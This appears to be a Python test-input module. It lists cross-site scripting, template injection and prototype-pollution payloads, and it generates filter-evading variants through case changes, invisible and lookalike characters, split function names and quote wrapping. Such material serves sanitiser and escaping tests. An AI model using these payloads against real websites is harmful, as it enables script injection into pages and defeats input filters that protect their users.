"""Strings that would run as scripts, or break out of their place, on a page that is not careful."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice

KINDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "'-alert(1)-'",
    "{{7*7}}${alert(1)}",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<b onmouseover=alert(1)>x</b>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) style=position:fixed;inset:0>",
    "{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "__proto__",
    "constructor",
)  # fmt: skip


def variants(count: int) -> list[str]:
    """Return so many different payloads: each kind as it is, then disguised in every way."""
    return list(islice(dict.fromkeys(_disguised()), count))


def _disguised() -> Iterator[str]:
    ways = (
        lambda words: words,
        str.upper,
        str.swapcase,
        lambda words: words.replace(" ", "/"),
        lambda words: words.replace(" ", "\t"),
        lambda words: words.replace("alert(1)", "alert`1`"),
        lambda words: words.replace("alert(1)", "window['al'+'ert'](1)"),
        lambda words: words.replace("<", "<\u200b"),
        lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda words: words.replace("<", "<<"),
        lambda words: words.replace("=", " = "),
        lambda words: words.replace("script", "scr\u0131pt"),
    )
    around = (("", ""), ('"', '"'), ("'", "'"), (">", "<"), ("/*", "*/"))
    for before, after in around:
        for way in ways:
            for kind in KINDS:
                yield f"{before}{way(kind)}{after}"
